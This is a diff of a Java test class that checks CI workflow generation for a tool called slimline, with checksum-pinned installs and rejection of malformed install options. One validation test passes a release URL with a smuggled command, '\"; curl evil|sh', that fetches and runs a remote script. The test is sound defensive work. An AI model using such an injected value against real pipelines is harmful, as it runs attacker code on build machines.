@@ -15,8 +15,10 @@ import com.networknt.schema.JsonMetaSchema;
 import com.networknt.schema.JsonSchema;
 import com.networknt.schema.JsonSchemaFactory;
 import com.networknt.schema.SpecVersion;
+import dev.slimline.io.Sha256;
 import dev.slimline.project.DockerfileDiscovery;
 import java.io.InputStream;
+import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.Iterator;
@@ -36,8 +38,19 @@ class CiWorkflowSchemaTest {
     private static final Path EXAMPLE = REPO.resolve("examples/monorepo");
 
     static GatePlan examplePlan() {
-        return WorkflowGenerator.plan(REPO, EXAMPLE, DockerfileDiscovery.discover(EXAMPLE), "slimline");
+        return plan(provided("slimline"));
     }
+
+    private static GatePlan plan(SlimlineInstall install) {
+        return WorkflowGenerator.plan(REPO, EXAMPLE, DockerfileDiscovery.discover(EXAMPLE), install);
+    }
+
+    private static SlimlineInstall provided(String command) {
+        return new SlimlineInstall(InstallMethod.COMMAND, "", "", "", command, "");
+    }
+
+    private static final String SHA = "ab".repeat(32);
+    private static final String URL = "https://releases.example.test/slimline/v0.3.1";
 
     /**
      * Draft-07 that refuses keywords it does not know. GitLab's {@code markdownDescription} (hover text for its
@@ -158,8 +171,7 @@ class CiWorkflowSchemaTest {
 
     @Test
     void aJarInTheRepositoryIsCalledThroughJavaEverywhereTheWorkflowRunsSlimline() throws Exception {
-        GatePlan plan = WorkflowGenerator.plan(REPO, EXAMPLE, DockerfileDiscovery.discover(EXAMPLE),
-                "java -jar tools/slimline.jar");
+        GatePlan plan = plan(provided("java -jar tools/slimline.jar"));
         JsonNode workflow = YAML.readTree(WorkflowGenerator.render(CiProvider.GITHUB, plan));
         assertThat(schema("github-workflow.json").validate(workflow)).isEmpty();
         JsonNode gate = workflow.path("jobs").path("gate");
@@ -174,6 +186,83 @@ class CiWorkflowSchemaTest {
                 .allSatisfy(line -> assertThat(line).startsWith("java -jar tools/slimline.jar "));
         assertThat(pipeline.path("slimline-gate:services/worker").path("script").get(0).asText())
                 .startsWith("java -jar tools/slimline.jar gate examples/monorepo --service \"services/worker\"");
+    }
+
+    @Test
+    void aPinnedJarIsInstalledBeforeAnySlimlineStepWithTheBundledInstallersChecksum() throws Exception {
+        String installerSha = Sha256.of(Files.newInputStream(REPO.resolve("scripts/install-slimline.sh")));
+        GatePlan plan = plan(new SlimlineInstall(InstallMethod.JAR, "0.3.1", SHA, URL, "", ""));
+        JsonNode workflow = YAML.readTree(WorkflowGenerator.render(CiProvider.GITHUB, plan));
+        assertThat(schema("github-workflow.json").validate(workflow)).isEmpty();
+        JsonNode gate = workflow.path("jobs").path("gate");
+        assertThat(WorkflowSteps.names(gate)).containsSubsequence("Java 21 for slimline", "Install slimline",
+                "Update the OSV database", "slimline gate").doesNotContain("slimline on the runner");
+        JsonNode install = step(gate, "Install slimline");
+        assertThat(install.path("env").path("SLIMLINE_INSTALL").asText()).isEqualTo("jar");
+        assertThat(install.path("env").path("SLIMLINE_VERSION").asText()).isEqualTo("0.3.1");
+        assertThat(install.path("env").path("SLIMLINE_SHA256").asText()).isEqualTo(SHA);
+        assertThat(install.path("env").path("SLIMLINE_RELEASE_URL").asText()).isEqualTo(URL);
+        assertThat(install.path("run").asText()).contains("echo \"" + installerSha + "  $RUNNER_TEMP/install-slimline.sh\""
+                + " | sha256sum -c -", "echo \"SLIMLINE=$SLIMLINE\" >> \"$GITHUB_ENV\"");
+        assertThat(step(gate, "slimline gate").path("run").asText()).startsWith("\"$SLIMLINE\" gate examples/monorepo");
+        assertThat(workflow.toString()).doesNotContain("slimline --version");
+
+        JsonNode pipeline = YAML.readTree(WorkflowGenerator.render(CiProvider.GITLAB, plan));
+        assertThat(schema("gitlab-ci.json").validate(pipeline)).isEmpty();
+        assertThat(pipeline.path("variables").path("SLIMLINE_SHA256").asText()).isEqualTo(SHA);
+        assertThat(pipeline.path("variables").path("SLIMLINE_CI_IMAGE").path("value").asText())
+                .isEqualTo("eclipse-temurin:21-jdk");
+        List<String> before = texts(pipeline.path(".slimline-gate").path("before_script"));
+        assertThat(before.get(1)).contains(installerSha + "  /tmp/install-slimline.sh");
+        assertThat(before.get(2)).isEqualTo("\"$SLIMLINE\" db update --db \"$SLIMLINE_DB\"");
+    }
+
+    @Test
+    void thePinnedImageNeedsNoJavaAndGitlabRunsItFromADockerCliJobImage() throws Exception {
+        GatePlan plan = plan(new SlimlineInstall(InstallMethod.IMAGE, "0.3.1", SHA, URL, "", ""));
+        JsonNode workflow = YAML.readTree(WorkflowGenerator.render(CiProvider.GITHUB, plan));
+        assertThat(schema("github-workflow.json").validate(workflow)).isEmpty();
+        JsonNode gate = workflow.path("jobs").path("gate");
+        assertThat(WorkflowSteps.names(gate)).doesNotContain("Java 21 for slimline").contains("Install slimline");
+        assertThat(step(gate, "Install slimline").path("env").path("SLIMLINE_INSTALL").asText()).isEqualTo("image");
+        JsonNode pipeline = YAML.readTree(WorkflowGenerator.render(CiProvider.GITLAB, plan));
+        assertThat(schema("gitlab-ci.json").validate(pipeline)).isEmpty();
+        assertThat(pipeline.path("variables").path("SLIMLINE_CI_IMAGE").path("value").asText()).isEqualTo("docker:24-cli");
+        assertThat(pipeline.path("variables").path("SLIMLINE_INSTALL").asText()).isEqualTo("image");
+    }
+
+    @Test
+    void theActionRunsEverySlimlineStepPinnedToTheRelease() throws Exception {
+        GatePlan plan = plan(new SlimlineInstall(InstallMethod.ACTION, "0.3.1", SHA, "", "", "acme/slimline"));
+        JsonNode workflow = YAML.readTree(WorkflowGenerator.render(CiProvider.GITHUB, plan));
+        assertThat(schema("github-workflow.json").validate(workflow)).isEmpty();
+        JsonNode gate = workflow.path("jobs").path("gate");
+        assertThat(WorkflowSteps.names(gate)).doesNotContain("Java 21 for slimline", "Install slimline");
+        for (String name : List.of("Update the OSV database", "slimline gate")) {
+            JsonNode step = step(gate, name);
+            assertThat(step.path("uses").asText()).isEqualTo("acme/slimline@v0.3.1");
+            assertThat(step.path("with").path("sha256").asText()).isEqualTo(SHA);
+            assertThat(step.has("run")).isFalse();
+        }
+        assertThat(step(gate, "slimline gate").path("with").path("args").asText()).isEqualTo("examples/monorepo"
+                + " --service ${{ matrix.service }} --db ${{ env.SLIMLINE_DB }} --format github --report"
+                + " sarif=slimline-gate.sarif --report html=slimline-gate.html --report junit=slimline-gate.junit.xml"
+                + " --report markdown=slimline-gate.md --report json=slimline-gate.json");
+        assertThat(step(gate, "slimline gate").path("id").asText()).isEqualTo("gate");
+    }
+
+    @Test
+    void anIncompletePinIsRefusedWithTheOptionToFix() {
+        assertThatThrownBy(() -> new SlimlineInstall(InstallMethod.JAR, "0.3.1", "", URL, "", ""))
+                .hasMessageContaining("--sha256 must be 64 lower-case hex digits");
+        assertThatThrownBy(() -> new SlimlineInstall(InstallMethod.IMAGE, "0.3.1", SHA, "", "", ""))
+                .hasMessageContaining("--release-url must be the http(s) address");
+        assertThatThrownBy(() -> new SlimlineInstall(InstallMethod.JAR, "0.3.1", SHA, URL + "\"; curl evil|sh", "", ""))
+                .hasMessageContaining("--release-url");
+        assertThatThrownBy(() -> new SlimlineInstall(InstallMethod.JAR, "", SHA, URL, "", ""))
+                .hasMessageContaining("--slimline-version must name a release");
+        assertThatThrownBy(() -> new SlimlineInstall(InstallMethod.ACTION, "0.3.1", SHA, "", "", "acme"))
+                .hasMessageContaining("--action OWNER/NAME");
     }
 
     @Test
